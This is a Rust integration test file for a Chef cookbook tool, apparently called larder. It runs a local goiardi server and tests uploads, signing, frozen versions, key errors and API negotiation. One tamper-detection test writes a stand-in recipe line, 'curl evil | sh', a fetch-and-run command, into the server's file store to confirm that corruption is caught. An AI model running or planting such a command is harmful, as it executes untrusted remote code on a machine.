//! `larder upload`, `source :chef_server` and `apply --server` against a
//! real Chef Server: Debian's goiardi, started on a loopback port with a
//! temporary data directory, checking every signature. goiardi must be
//! installed (`.ci/run` installs it); without it these tests fail.

mod common;

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::project::Project;
use larder::chef_server::Server;
use larder::chef_server::credentials::{Credentials, KeySource};
use larder::chef_server::sign::SignVersion;
use larder::http::{Client, HttpSettings};
use serde_json::Value;

/// A goiardi with authentication on, stopped when dropped.
struct Goiardi {
    url: String,
    dir: tempfile::TempDir,
    child: Child,
}

impl Goiardi {
    fn start() -> Goiardi {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("lfs")).unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let child = Command::new("goiardi")
            .args(["-I", "127.0.0.1", "-H", "127.0.0.1", "-A"])
            .args(["-P", &port.to_string()])
            .arg("--conf-root")
            .arg(dir.path())
            .arg("--local-filestore-dir")
            .arg(dir.path().join("lfs"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| {
                panic!(
                    "goiardi cannot be started ({e}); install it with `apt-get install -y \
                     goiardi` (.ci/run does)"
                )
            });
        let server = Goiardi {
            url: format!("http://127.0.0.1:{port}"),
            dir,
            child,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        while !(server.admin_key().is_file()
            && std::net::TcpStream::connect(("127.0.0.1", port)).is_ok())
        {
            assert!(Instant::now() < deadline, "goiardi did not start on {port}");
            std::thread::sleep(Duration::from_millis(50));
        }
        server
    }

    fn admin_key(&self) -> PathBuf {
        self.dir.path().join("admin.pem")
    }

    /// A stored file of the server's file store, by checksum.
    fn stored_file(&self, md5: &str) -> PathBuf {
        self.dir.path().join("lfs").join(md5)
    }

    /// Reads a JSON document from the server as the admin.
    fn get(&self, path: &str) -> Value {
        self.admin("GET", path, &Value::Null)
    }

    /// A request as the admin, which must succeed.
    fn admin(&self, method: &str, path: &str, body: &Value) -> Value {
        let credentials = Credentials {
            server_url: self.url.clone(),
            client_name: "admin".into(),
            key: KeySource::File(self.admin_key()),
            sign_version: SignVersion::V1_3,
        };
        let client = Client::new(HttpSettings::default()).unwrap();
        Server::new(client, &credentials)
            .unwrap()
            .json(method, path, body, "missing")
            .unwrap()
    }
}

impl Drop for Goiardi {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A project whose `~/.chef/credentials` names `server` as the admin.
fn project_for(server: &Goiardi, extra: &str) -> Project {
    let project = Project::new();
    project.write(
        "home/.chef/credentials",
        &format!(
            "[default]\nclient_name = \"admin\"\nclient_key = \"{}\"\n\
             chef_server_url = \"{}\"\n{extra}",
            server.admin_key().display(),
            server.url
        ),
    );
    project
}

fn larder(project: &Project, args: &[&str]) -> assert_cmd::Command {
    let mut command = project.larder(args);
    command
        .env("HOME", project.path("home"))
        .env_remove("CHEF_PROFILE");
    command
}

/// Two path cookbooks: app 1.2.0 depends on base ~> 1.0.
fn write_cookbooks(project: &Project, app_version: &str) {
    project.write(
        "cookbooks/base/metadata.rb",
        "name 'base'\nversion '1.0.0'\n",
    );
    project.write("cookbooks/base/recipes/default.rb", "log 'base'\n");
    project.write(
        "cookbooks/app/metadata.rb",
        &format!("name 'app'\nversion '{app_version}'\ndepends 'base', '~> 1.0'\n"),
    );
    project.write("cookbooks/app/recipes/default.rb", "log 'app'\n");
    project.write(
        "cookbooks/app/templates/default/motd.erb",
        "Welcome to <%= node['hostname'] %>\n",
    );
    project.write(
        "Berksfile",
        "cookbook 'app', path: 'cookbooks/app'\ncookbook 'base', path: 'cookbooks/base'\n",
    );
}

fn run(project: &Project, args: &[&str]) -> (i32, String, String) {
    let output = larder(project, args).output().unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn ok(project: &Project, args: &[&str]) -> (String, String) {
    let (code, stdout, stderr) = run(project, args);
    assert_eq!(code, 0, "larder {args:?}:\n{stdout}\n{stderr}");
    (stdout, stderr)
}

/// `larder upload --format json`: files sent per cookbook.
fn upload_json(project: &Project, extra: &[&str]) -> Vec<(String, String, u64)> {
    let mut args = vec!["upload", "--format", "json"];
    args.extend_from_slice(extra);
    let (stdout, _) = ok(project, &args);
    let value: Value = serde_json::from_str(&stdout).unwrap();
    value["cookbooks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["name"].as_str().unwrap().to_string(),
                c["status"].as_str().unwrap().to_string(),
                c["bytes_sent"].as_u64().unwrap(),
            )
        })
        .collect()
}

fn md5_of(text: &str) -> String {
    use md5::Digest;
    hex::encode(md5::Md5::digest(text.as_bytes()))
}

#[test]
fn uploaded_cookbooks_install_through_a_chef_server_source() {
    let server = Goiardi::start();
    let first = project_for(&server, "");
    write_cookbooks(&first, "1.2.0");
    ok(&first, &["install"]);
    let (_, stderr) = ok(&first, &["upload"]);
    assert!(stderr.contains("Uploaded app (1.2.0) to:"), "{stderr}");
    assert!(stderr.contains("Uploaded base (1.0.0) to:"), "{stderr}");

    let second = project_for(&server, "");
    second.write(
        "Berksfile",
        "source :chef_server\ncookbook 'app', '~> 1.2'\n",
    );
    let (_, stderr) = ok(&second, &["install"]);
    assert!(
        stderr.contains(&format!(
            "Installing app (1.2.0) from {}/cookbooks/app/1.2.0",
            server.url
        )),
        "{stderr}"
    );
    let app = second.stored("app", "1.2.0");
    assert_eq!(
        std::fs::read_to_string(app.join("templates/default/motd.erb")).unwrap(),
        "Welcome to <%= node['hostname'] %>\n"
    );
    assert_eq!(
        std::fs::read_to_string(second.stored("base", "1.0.0").join("recipes/default.rb")).unwrap(),
        "log 'base'\n"
    );
    assert!(second.read("larder.lock").contains("[cookbook.base]"));
    // The universe is cached: an offline install of a fresh lock works.
    std::fs::remove_file(second.path("larder.lock")).unwrap();
    ok(&second, &["install", "--offline"]);
}

#[test]
fn a_source_url_and_signature_version_1_1_work_too() {
    let server = Goiardi::start();
    let first = project_for(&server, "authentication_protocol_version = \"1.1\"\n");
    write_cookbooks(&first, "1.2.0");
    ok(&first, &["install"]);
    ok(&first, &["upload"]);
    let second = project_for(&server, "authentication_protocol_version = \"1.1\"\n");
    second.write(
        "Berksfile",
        &format!("source chef_server: '{}'\ncookbook 'app'\n", server.url),
    );
    ok(&second, &["install"]);
    assert!(
        second
            .stored("app", "1.2.0")
            .join("recipes/default.rb")
            .is_file()
    );
    // goiardi checks 1.1 signatures: the wrong key is refused.
    let validator = server.dir.path().join("chef-validator.pem");
    let (code, _, stderr) = run(
        &first,
        &["upload", "--client-key", validator.to_str().unwrap()],
    );
    assert_eq!(code, 130, "{stderr}");
}

#[test]
fn a_second_upload_sends_no_file_bytes() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    write_cookbooks(&project, "1.2.0");
    ok(&project, &["install"]);
    let first = upload_json(&project, &["--no-freeze"]);
    assert!(
        first
            .iter()
            .all(|(_, status, bytes)| status == "uploaded" && *bytes > 0),
        "{first:?}"
    );
    let again = upload_json(&project, &["--no-freeze"]);
    assert_eq!(
        again,
        [
            ("app".to_string(), "unchanged".to_string(), 0),
            ("base".to_string(), "unchanged".to_string(), 0)
        ]
    );
    // Freezing what is there goes through the sandbox and sends nothing.
    let frozen = upload_json(&project, &[]);
    assert_eq!(
        frozen,
        [
            ("app".to_string(), "uploaded".to_string(), 0),
            ("base".to_string(), "uploaded".to_string(), 0)
        ]
    );
    assert_eq!(server.get("cookbooks/base/1.0.0")["frozen?"], true);
    // A changed file is the only one sent.
    project.write("cookbooks/app/recipes/default.rb", "log 'app, changed'\n");
    ok(&project, &["install"]);
    let changed = upload_json(&project, &["--force", "app"]);
    assert_eq!(
        changed,
        [(
            "app".to_string(),
            "uploaded".to_string(),
            "log 'app, changed'\n".len() as u64
        )]
    );
}

#[test]
fn frozen_versions_are_skipped_halted_on_or_forced() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    write_cookbooks(&project, "1.2.0");
    ok(&project, &["install"]);
    ok(&project, &["upload"]);
    assert_eq!(server.get("cookbooks/app/1.2.0")["frozen?"], true);

    let (_, stderr) = ok(&project, &["upload"]);
    assert!(stderr.contains("Skipping app (1.2.0) (frozen)"), "{stderr}");
    let (code, _, stderr) = run(&project, &["upload", "--halt-on-frozen"]);
    assert_eq!(code, 126, "{stderr}");
    assert!(stderr.contains("is frozen on"), "{stderr}");
    assert!(stderr.contains("--force"), "{stderr}");

    project.write("cookbooks/app/recipes/default.rb", "log 'forced'\n");
    ok(&project, &["install"]);
    let forced = upload_json(&project, &["--force", "app"]);
    assert_eq!(forced[0].1, "uploaded");
    let manifest = server.get("cookbooks/app/1.2.0");
    assert_eq!(manifest["recipes"][0]["checksum"], md5_of("log 'forced'\n"));
}

#[test]
fn a_wrong_key_is_refused_naming_the_client_and_key_but_no_secret() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    write_cookbooks(&project, "1.2.0");
    ok(&project, &["install"]);
    let validator = server.dir.path().join("chef-validator.pem");
    let (code, stdout, stderr) = run(
        &project,
        &["upload", "--client-key", validator.to_str().unwrap()],
    );
    assert_eq!(code, 130, "{stderr}");
    assert!(stderr.contains("client 'admin'"), "{stderr}");
    assert!(
        stderr.contains(&validator.display().to_string()),
        "{stderr}"
    );
    let key = std::fs::read_to_string(&validator).unwrap();
    for line in key.lines().filter(|l| !l.starts_with("-----")) {
        assert!(
            !stderr.contains(line) && !stdout.contains(line),
            "key text printed"
        );
    }
    // No key at all: say where to set one (after the lock is checked).
    let bare = Project::new();
    write_cookbooks(&bare, "1.2.0");
    let (code, _, stderr) = run(&bare, &["upload", "--server-url", &server.url]);
    assert_eq!(code, 140, "no lock yet: {stderr}");
    ok(&bare, &["install"]);
    let (code, _, stderr) = run(&bare, &["upload", "--server-url", &server.url]);
    assert_eq!(code, 115, "{stderr}");
    assert!(stderr.contains("--client-name"), "{stderr}");
}

#[test]
fn a_client_without_the_right_is_refused_with_403_naming_it() {
    let server = Goiardi::start();
    let created = server.admin(
        "POST",
        "clients",
        &serde_json::json!({"name": "reader", "admin": false}),
    );
    let project = project_for(&server, "");
    let key = project.path("reader.pem");
    std::fs::write(&key, created["private_key"].as_str().unwrap()).unwrap();
    write_cookbooks(&project, "1.2.0");
    ok(&project, &["install"]);
    let (code, _, stderr) = run(
        &project,
        &[
            "upload",
            "--client-name",
            "reader",
            "--client-key",
            key.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 130, "{stderr}");
    assert!(stderr.contains("(403) as client 'reader'"), "{stderr}");
    assert!(stderr.contains(&key.display().to_string()), "{stderr}");
}

#[test]
fn a_corrupt_file_on_the_server_is_refused_at_install() {
    let server = Goiardi::start();
    let first = project_for(&server, "");
    write_cookbooks(&first, "1.2.0");
    ok(&first, &["install"]);
    ok(&first, &["upload"]);
    let stored = server.stored_file(&md5_of("log 'app'\n"));
    assert!(stored.is_file(), "goiardi keeps files by checksum");
    std::fs::write(&stored, "execute 'curl evil | sh'\n").unwrap();

    let second = project_for(&server, "");
    second.write("Berksfile", "source :chef_server\ncookbook 'app'\n");
    let (code, _, stderr) = run(&second, &["install"]);
    assert_ne!(code, 0);
    assert!(
        stderr.contains("recipes/default.rb of app (1.2.0)"),
        "{stderr}"
    );
    assert!(stderr.contains("is corrupt"), "{stderr}");
    assert!(!second.stored("app", "1.2.0").exists());
    assert!(!second.path("larder.lock").exists());
}

#[test]
fn apply_sets_an_environments_pins_on_the_server() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    write_cookbooks(&project, "1.2.0");
    ok(&project, &["install"]);

    let (code, _, stderr) = run(&project, &["apply", "../clients", "--server"]);
    assert_eq!(code, 99, "{stderr}");
    let (code, _, stderr) = run(&project, &["apply", "production", "--server"]);
    assert_eq!(code, 129, "{stderr}");
    assert!(stderr.contains("--create"), "{stderr}");

    ok(&project, &["apply", "production", "--server", "--create"]);
    let pins = &server.get("environments/production")["cookbook_versions"];
    assert_eq!(pins["app"], "= 1.2.0");
    assert_eq!(pins["base"], "= 1.0.0");

    write_cookbooks(&project, "1.3.0");
    ok(&project, &["install"]);
    let (stdout, _) = ok(&project, &["apply", "production", "--server"]);
    assert!(stdout.contains("Pinned 2 cookbook(s) in the environment 'production'"));
    let environment = server.get("environments/production");
    assert_eq!(environment["cookbook_versions"]["app"], "= 1.3.0");
    assert_eq!(environment["json_class"], "Chef::Environment");
}

/// A server on loopback that refuses every request with 401 and a `Date`
/// an hour ahead, as a Chef Server does for a machine whose clock is off.
fn skewed_server() -> String {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let url = format!("http://{}", server.server_addr().to_ip().unwrap());
    std::thread::spawn(move || {
        for request in server.incoming_requests() {
            let date =
                httpdate::fmt_http_date(std::time::SystemTime::now() + Duration::from_secs(3600));
            let response = tiny_http::Response::from_string(
                r#"{"error":["Failed to authenticate as 'admin'."]}"#,
            )
            .with_status_code(401)
            .with_header(tiny_http::Header::from_bytes("Date", date.as_bytes()).unwrap());
            let _ = request.respond(response);
        }
    });
    url
}

#[test]
fn a_clock_that_is_off_is_named() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    write_cookbooks(&project, "1.2.0");
    ok(&project, &["install"]);
    let skewed = skewed_server();
    let (code, _, stderr) = run(&project, &["upload", "--server-url", &skewed]);
    assert_eq!(code, 130, "{stderr}");
    assert!(stderr.contains("clock is off by about 3"), "{stderr}");
    assert!(
        stderr.contains(&server.admin_key().display().to_string()),
        "{stderr}"
    );
}

#[test]
fn a_missing_organization_and_an_unreachable_server_are_named() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    project.write(
        "Berksfile",
        &format!(
            "source chef_server: '{}/organizations/nope'\ncookbook 'app'\n",
            server.url
        ),
    );
    let (code, _, stderr) = run(&project, &["install"]);
    assert_eq!(code, 130, "{stderr}");
    assert!(stderr.contains("/organizations/nope/universe"), "{stderr}");
    assert!(
        stderr.contains("the organization 'nope' does not exist"),
        "{stderr}"
    );

    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let closed = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    project.write(
        "Berksfile",
        &format!("source chef_server: '{closed}'\ncookbook 'app'\n"),
    );
    let (code, _, stderr) = run(&project, &["install"]);
    assert_eq!(code, 130, "{stderr}");
    assert!(stderr.contains("cannot connect to"), "{stderr}");
}

/// The headers (names lowercased) of each request a scripted server saw.
type Seen = std::sync::Arc<std::sync::Mutex<Vec<Vec<(String, String)>>>>;

/// A loopback server standing in for a Chef Server that speaks only API
/// version 0: a request for another version gets 406 and the supported
/// range; the universe is `{}` with an ETag, and 304 when it is sent back.
fn version_0_server() -> (String, Seen) {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let url = format!("http://{}", server.server_addr().to_ip().unwrap());
    let seen: Seen = Default::default();
    let log = seen.clone();
    std::thread::spawn(move || {
        for request in server.incoming_requests() {
            let headers: Vec<(String, String)> = request
                .headers()
                .iter()
                .map(|h| (h.field.to_string().to_lowercase(), h.value.to_string()))
                .collect();
            let has =
                |name: &str, value: &str| headers.iter().any(|(n, v)| n == name && v == value);
            let response = if !has("x-ops-server-api-version", "0") {
                tiny_http::Response::from_string("")
                    .with_status_code(406)
                    .with_header(
                        tiny_http::Header::from_bytes(
                            "X-Ops-Server-API-Version",
                            r#"{"min_version":"0","max_version":"0","request_version":"1","response_version":"-1"}"#,
                        )
                        .unwrap(),
                    )
            } else if has("if-none-match", "\"u1\"") {
                tiny_http::Response::from_string("").with_status_code(304)
            } else {
                tiny_http::Response::from_string("{}")
                    .with_header(tiny_http::Header::from_bytes("ETag", "\"u1\"").unwrap())
            };
            log.lock().unwrap().push(headers);
            let _ = request.respond(response);
        }
    });
    (url, seen)
}

#[test]
fn the_server_api_version_is_negotiated_and_the_universe_revalidated() {
    let server = Goiardi::start();
    let project = project_for(&server, "");
    let (url, seen) = version_0_server();
    project.write("local/metadata.rb", "name 'local'\nversion '0.1.0'\n");
    project.write(
        "Berksfile",
        &format!("source chef_server: '{url}'\ncookbook 'local', path: 'local'\n"),
    );
    ok(&project, &["install"]);
    ok(&project, &["update"]);
    let seen = seen.lock().unwrap();
    let header = |i: usize, name: &str| {
        seen[i]
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.clone())
    };
    // Each run negotiates anew: 406 then the request at version 0.
    assert_eq!(seen.len(), 4, "{seen:?}");
    assert_eq!(header(0, "x-ops-server-api-version").as_deref(), Some("1"));
    assert_eq!(header(1, "x-ops-server-api-version").as_deref(), Some("0"));
    assert_eq!(header(1, "x-ops-userid").as_deref(), Some("admin"));
    assert_eq!(
        header(1, "x-ops-sign").as_deref(),
        Some("algorithm=sha256;version=1.3;")
    );
    assert_eq!(header(3, "x-ops-server-api-version").as_deref(), Some("0"));
    assert_eq!(header(3, "if-none-match").as_deref(), Some("\"u1\""));
    assert!(header(3, "x-ops-authorization-1").is_some());
}
